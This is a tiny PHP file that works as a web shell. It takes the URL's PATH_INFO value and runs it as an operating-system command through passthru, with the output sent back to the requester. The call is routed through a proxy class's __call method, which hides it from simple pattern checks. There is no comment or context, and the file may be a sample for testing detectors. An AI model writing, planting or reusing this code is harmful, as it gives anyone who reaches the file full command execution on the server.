<?php
$q2 = $_SERVER['PATH_INFO'];
class Proxy12 { function __call($n, $a) { return $n(...$a); } }
echo (new Proxy12())->passthru($q2);
